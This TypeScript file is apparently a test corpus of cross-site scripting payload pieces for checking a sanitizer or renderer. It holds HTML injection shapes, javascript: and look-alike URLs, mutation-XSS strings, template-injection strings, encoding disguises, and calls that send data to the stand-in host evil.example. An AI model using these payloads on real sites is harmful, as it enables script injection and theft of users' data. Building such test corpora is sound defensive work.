/** The building blocks of hostile words. `№` becomes the number of the words, CALL one of the calls, ADDRESS one of the addresses. */

/** None of them needs quotes. `pwned` is what the watch gives the page; alert and its like are watched as well. */
export const calls = [
  'pwned(№)', 'alert(№)', 'alert`№`', 'self[`ale`+`rt`](№)', 'top.pwned(№)', 'eval(`pwned(№)`)', 'Function(`pwned(№)`)()', 'setTimeout(`pwned(№)`)',
  '[№].map(pwned)', 'window[`\\x70wned`](№)', 'fetch(`//evil.example/№`)', 'new/**/Image().src=`//evil.example/№`',
  'navigator.sendBeacon(`//evil.example/№`)', 'import(`//evil.example/№.js`)', 'location=`javascript:pwned(№)`', 'parent.postMessage(№,`*`),pwned(№)',
]

/** Where a browser runs what stands there. */
export const shapes = [
  '<script>CALL</script>', '<img src=x onerror=CALL>', '<svg onload=CALL>', '<svg><script>CALL</script></svg>', '<body onload=CALL>',
  '<details open ontoggle=CALL>x</details>', '<input autofocus onfocus=CALL>', '<iframe src="javascript:CALL"></iframe>', '<video><source onerror=CALL></video>',
  '<a href="javascript:CALL">tea</a>', '"><img src=x onerror=CALL>', '\'><svg onload=CALL>', '<audio src=x onerror=CALL>', '<object data="javascript:CALL"></object>',
  '<embed src="javascript:CALL">', '<form action="javascript:CALL"><button autofocus>x</button></form>', '<button formaction="javascript:CALL" form=f>x</button>',
  '<iframe srcdoc="<script>parent.CALL</script>"></iframe>', '<marquee onstart=CALL>x</marquee>', '<select autofocus onfocus=CALL></select>',
  '<svg><animate onbegin=CALL attributeName=x dur=1s></svg>', '<svg><a xlink:href="javascript:CALL"><text y=9>x</text></a></svg>',
  '<math><mtext><img src=x onerror=CALL></mtext></math>', '<math href="javascript:CALL">x</math>', '<style>@keyframes x{}</style><b style="animation:x 1ms" onanimationstart=CALL>x</b>',
  '</textarea><script>CALL</script>', '</title><script>CALL</script>', '</script><script>CALL</script>', '<dialog open onclose=CALL></dialog>', '<x-tea contenteditable autofocus onfocus=CALL>x</x-tea>',
  '<image src=x onerror=CALL>', '<link rel=stylesheet href=x onerror=CALL>', '<img srcset=x onerror=CALL>', '<picture><source srcset=x><img onerror=CALL src=x></picture>',
  '<meta http-equiv=refresh content="0;url=javascript:CALL">', '<base href="javascript:CALL//">', '<template shadowrootmode=open><img src=x onerror=CALL></template>',
]

export const handlers = [
  'abort', 'afterprint', 'animationend', 'animationiteration', 'animationstart', 'auxclick', 'beforecopy', 'beforeinput', 'beforematch', 'beforetoggle', 'beforeunload', 'blur', 'cancel',
  'canplay', 'change', 'click', 'close', 'contentvisibilityautostatechange', 'contextmenu', 'copy', 'cuechange', 'cut', 'dblclick', 'drag', 'dragend', 'dragenter', 'dragover',
  'dragstart', 'drop', 'durationchange', 'ended', 'error', 'focus', 'focusin', 'focusout', 'formdata', 'fullscreenchange', 'gotpointercapture', 'hashchange', 'input', 'invalid',
  'keydown', 'keypress', 'keyup', 'load', 'loadeddata', 'loadstart', 'message', 'mousedown', 'mouseenter', 'mousemove', 'mouseout', 'mouseover', 'mouseup', 'mousewheel', 'pagehide',
  'pageshow', 'paste', 'play', 'pointerdown', 'pointerenter', 'pointermove', 'pointerover', 'pointerrawupdate', 'pointerup', 'popstate', 'progress', 'ratechange', 'repeat', 'reset',
  'resize', 'scroll', 'scrollend', 'scrollsnapchange', 'search', 'securitypolicyviolation', 'seeked', 'select', 'selectionchange', 'slotchange', 'storage', 'submit', 'suspend',
  'timeupdate', 'toggle', 'touchstart', 'transitionend', 'transitionrun', 'unhandledrejection', 'unload', 'volumechange', 'waiting', 'webkitanimationstart', 'wheel',
]

/** Addresses that are none, or not what they seem. */
export const addresses = [
  'javascript:CALL', 'JaVaScRiPt:CALL', 'java\tscript:CALL', ' javascript:CALL', 'javascript&colon;CALL', '&#106;avascript:CALL', 'data:text/html,<script>CALL</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="CALL"/>', 'vbscript:CALL', '//evil.example/№', 'https://house.example@evil.example/№',
  'javascript://house.example/%0aCALL', 'javascript:https://house.example/CALL', 'java\nscript:CALL', '\u0001javascript:CALL', 'javascript\u200b:CALL', 'ｊavascript:CALL', 'jаvascript:CALL', 'jav&#x09;ascript:CALL', '&#x6A&#x61vascript:CALL',
  'livescript:CALL', 'mocha:CALL', 'feed:javascript:CALL', 'view-source:javascript:CALL', 'blob:https://evil.example/№', 'file:///etc/passwd', 'filesystem:https://evil.example/№', 'about:blank#CALL',
  'intent://evil.example/№#Intent;scheme=javascript;end', 'ms-word:ofe|u|https://evil.example/№', 'mailto:x?body=CALL', 'tel:CALL', 'ftp://evil.example/№', 'ws://evil.example/№', 'chrome://settings/',
  '\\\\evil.example\\№', '/\\evil.example/№', 'http:evil.example/№', 'https:///evil.example/№', 'https://evil.example\\@house.example/№', 'https://evil.example%00.house.example/', 'https://[::ffff:7f00:1]/"onfocus=CALL',
  'https://house.example/" onmouseover="CALL" x="', 'https://house.example/\'onclick=\'CALL', 'https://house.example/`onclick=`CALL', 'https://house.example/><img src=x onerror=CALL>', 'https://house.example/</a><svg onload=CALL>',
]

/** Where an address stands in HTML and elsewhere. */
export const outsiders = [
  'ADDRESS', '<a href="ADDRESS" autofocus>tea</a>', '<img src="ADDRESS">', '<iframe src="ADDRESS"></iframe>', '<b style="background:url(\'ADDRESS\')">x</b>', '<link rel=stylesheet href="ADDRESS">',
]

/** Marks of Markdown, ours and those of others. */
export const marks = [
  '[tea](ADDRESS)', '![tea](ADDRESS)', '<ADDRESS>', '[tea](<ADDRESS>)', '[tea][1]\n\n[1]: ADDRESS', '[tea](ADDRESS "x\' onmouseover=CALL")', '[<img src=x onerror=CALL>](ADDRESS)', '**[_~~tea~~_](ADDRESS)**',
  '> - [tea](ADDRESS)', '```<img/src=x/onerror=CALL>\nADDRESS\n```', '`</code><svg onload=CALL>` ADDRESS', '[a](https://x.example/)ADDRESS](ADDRESS)', '[https://house.example](ADDRESS)', '[\u202etea\u202c](ADDRESS)',
]

/** What changes its meaning when a browser reads it, writes it and reads it again. */
export const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=CALL>">', '<svg></p><style><a id="</style><img src=1 onerror=CALL>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CALL&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>', '<svg><style><img src=x onerror=CALL></style>', '<math><style><img src=x onerror=CALL></style></math>', '<svg><foreignObject><iframe srcdoc="<img src=x onerror=parent.CALL>"></iframe>',
  '<xmp><img title="</xmp><img src=x onerror=CALL>">', '<textarea><img title="</textarea><img src=x onerror=CALL>">', '<title><img title="</title><img src=x onerror=CALL>">', '<!--><img src=x onerror=CALL>-->', '<!-- --!><img src=x onerror=CALL> -->',
  '<![CDATA[><img src=x onerror=CALL>]]>', '<svg><![CDATA[><img src=x onerror=CALL>]]>', '<?xml ?><img src=x onerror=CALL>', '<table><tr><td><svg><desc><td><img src=x onerror=CALL>', '<select><template><img src=x onerror=CALL>', '<a><table><a><img src=x onerror=CALL>',
  '<div id=1><svg><p id=2><style><b title="</style><img src=x onerror=CALL>">', '<listing>&lt;img src=x onerror=CALL&gt;</listing>', '<plaintext><img src=x onerror=CALL>', '<img src=`x` onerror=`CALL`>', '<img src="x` `<script>CALL</script>"` `>',
  '<<script>CALL//<</script>', '<scr<script>ipt>CALL</scr</script>ipt>', '<img """><script>CALL</script>">', '<a href="x"id="&quot;><img src=x onerror=CALL>">', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=CALL /></svg>#x"/>',
  '<svg><set attributeName=href to=javascript:CALL><a id=x>', '<img name=body><img name=cookie>', '<form id=document><input name=createElement>', '<a id=teahouse href=x><a id=teahouse name=me>', '<base target="<img src=x onerror=CALL>">', '<input type=hidden name=__proto__>',
]

/** What frameworks, not browsers, would run; and names that objects have already. */
export const templates = [
  '{{CALL}}', '{{constructor.constructor("CALL")()}}', '{{_c.constructor("CALL")()}}', '{{$el.ownerDocument.defaultView.CALL}}', '{{_openBlock.constructor("CALL")()}}', '<b v-html="\'<img src=x onerror=CALL>\'">x</b>', '<b v-on:click="CALL">x</b>', '<b @click="CALL" :is="`script`">x</b>',
  '<component is="script">CALL</component>', '<b :style="CALL">x</b>', '<div v-if="CALL">x</div>', '<slot name="default" v-bind="CALL"></slot>', '<teleport to="body"><img src=x onerror=CALL></teleport>', '[[CALL]]', '${CALL}', '#{CALL}', '<%= CALL %>', '{%raw%}CALL', '{{{CALL}}}', '{{"a".constructor.prototype.charAt=[].join;$eval("CALL")}}',
  'ng-app ng-init=CALL', 'x-data x-init=CALL', '<div hx-on:load="CALL">', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'then', 'length', '{"__proto__":{"html":"<img src=x onerror=CALL>"}}', '$&$`$\'', '%s%n%x', '\\u003cimg src=x onerror=CALL\\u003e', '\\x3cscript\\x3eCALL',
  '+ADw-script+AD4-CALL+ADw-/script+AD4-', '<b style="width:expression(CALL)">x</b>', '<b style="-moz-binding:url(//evil.example/№)">x</b>', '<b style="behavior:url(//evil.example/№)">x</b>', '<style>@import "//evil.example/№.css";</style>', '<style>*{background:url(//evil.example/№)}</style>', '<style>input[value^="a"]{background:url(//evil.example/№)}</style>', '</style><img src=x onerror=CALL>', '<b style="position:fixed;inset:0;z-index:9999;background:red">x</b>', 'x;}*{display:none}/*',
]

/** Letters that turn, hide, join or pretend. */
export const unicode = [
  '\u202e<img src=x onerror=CALL>\u202c', '\u2066\u202ereversed\u2069 CALL', '\u200f\u200e\u061cCALL', '＜script＞CALL＜/script＞', '﹤img src=x onerror=CALL﹥', '‹svg onload=CALL›', '\u2039img src=x onerror=CALL\u203a', '<\u200bscript>CALL</script>', '<s\u00adcript>CALL</script>', '<img\u3000src=x onerror=CALL>',
  '<img\u2028src=x\u2029onerror=CALL>', '\ufeff<script>CALL</script>', '<ſcript>CALL</ſcript>', '<ıframe src=javascript:CALL>', '<\u0130mg src=x onerror=CALL>', '\u{e003c}\u{e0073}\u{e003e}CALL', 'z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c CALL', '👨‍👩‍👧‍👦<svg onload=CALL>', '𒐫﷽꧅ CALL', 'https://аррӏе.example/№',
  'https://xn--80ak6aa92e.example/№', 'https://evil。example/№', 'https://evil．example/№', 'https://ⓔⓥⓘⓛ.example/№', 'https://house.example／evil.example/№', 'https://house.example\u2044evil.example/№', 'https://evil.example/\u202egnp.exe', '\u115f\u1160\u3164CALL', 'İ<script>CALL</script>', 'ﬀ<script>CALL</script>',
]

/** How the same is written so that who looks for it does not see it. */
export const disguises: readonly ((text: string) => string)[] = [
  text => text.replace(/[<>"]/g, letter => `&#${letter.charCodeAt(0)};`),
  text => text.replace(/[<>"]/g, letter => `&#x${letter.charCodeAt(0).toString(16)}`),
  text => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  text => encodeURIComponent(text),
  text => encodeURIComponent(encodeURIComponent(text)),
  text => text.replace(/[a-z]/g, (letter, at: number) => at % 2 ? letter.toUpperCase() : letter),
  text => text.replaceAll(' ', '/'),
  text => text.replaceAll(' ', '\n'),
  text => text.replaceAll(' ', '\t'),
  text => text.replaceAll('<', '<\u0000'),
  text => `${text.slice(0, -1)} `,
  text => `<!--${text}-->`,
  text => `${text}${text}`,
  text => `'"\`--></style></script></title></textarea>${text}`,
  text => text.split('').join('\u200b'),
  text => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  text => text.replaceAll('<', '%253C'),
  text => `${'<b>'.repeat(60)}${text}`,
]
